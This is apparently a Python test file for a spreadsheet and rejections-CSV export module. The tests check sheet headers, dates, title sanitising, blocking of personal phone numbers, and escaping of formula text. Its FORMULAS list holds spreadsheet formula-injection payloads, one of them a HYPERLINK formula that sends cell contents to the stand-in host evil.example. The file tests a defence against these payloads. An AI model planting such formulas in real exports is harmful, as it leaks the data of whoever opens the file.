"""The streaming spreadsheet writer every download uses, read back with
openpyxl, and the rejections CSV: no text in either runs as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from domain.privacy import PersonalNumber
from services.infra.excel import Column, Sheet, write_workbook
from services.infra.rejectioncsv import report_csv


def test_sheets_have_headers_frozen_widths_and_dates(tmp_path):
    path = tmp_path / "ledger.xlsx"
    columns = [Column("户编号", 20), Column("认定日期", 12), Column("记录时间", 18)]
    rows = [("HH-1", date(2026, 3, 1), datetime(2026, 3, 1, 9, 30))]
    n = write_workbook(
        [Sheet("全县", columns, rows), Sheet("城西镇[东]", columns, iter(rows * 2))], path
    )
    assert n == 3
    wb = load_workbook(path)
    assert wb.sheetnames == ["全县", "城西镇_东_"]
    ws = wb["全县"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["户编号", "认定日期", "记录时间"]
    # Excel stores a width of 20 characters with its cell padding: 20.71.
    assert 20 <= ws.column_dimensions["A"].width < 21
    assert ws["B2"].is_date and ws["B2"].value == datetime(2026, 3, 1)
    assert ws["C2"].value == datetime(2026, 3, 1, 9, 30)
    assert wb["城西镇_东_"].max_row == 3


def test_long_and_repeated_titles_stay_distinct(tmp_path):
    path = tmp_path / "t.xlsx"
    name = "很长的乡镇名字" * 6
    write_workbook([Sheet(name, [Column("a")], []), Sheet(name, [Column("a")], [])], path)
    titles = load_workbook(path).sheetnames
    assert len(set(titles)) == 2 and all(len(t) <= 31 for t in titles)


def test_a_personal_number_never_reaches_a_sheet(tmp_path):
    with pytest.raises(PersonalNumber):
        write_workbook(
            [Sheet("全县", [Column("备注")], [("联系 13812345678",)])], tmp_path / "x.xlsx"
        )


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_text_that_would_run_as_a_formula_is_a_quoted_text_cell(tmp_path):
    path = tmp_path / "f.xlsx"
    rows = [(text, "见到户主") for text in FORMULAS]
    write_workbook([Sheet("全县", [Column("备注"), Column("情况")], rows)], path)
    ws = load_workbook(path)["全县"]
    for r, text in enumerate(FORMULAS, 2):
        cell = ws.cell(r, 1)
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
        assert (ws.cell(r, 2).data_type, ws.cell(r, 2).quotePrefix) == ("s", False)


def test_the_rejections_csv_quotes_what_would_run_as_a_formula():
    rows = [(n, text, f"{text} 不是字段") for n, text in enumerate(FORMULAS, 1)]
    expected = [[str(n), "'" + text, f"'{text} 不是字段"] for n, text in enumerate(FORMULAS, 1)]
    rows.append((9, "data.amount_yuan", "-"))
    expected.append(["9", "data.amount_yuan", "'-"])
    read = list(csv.reader(io.StringIO(report_csv(rows).decode("utf-8-sig"))))
    assert read == [["row", "field", "reason"], *expected]
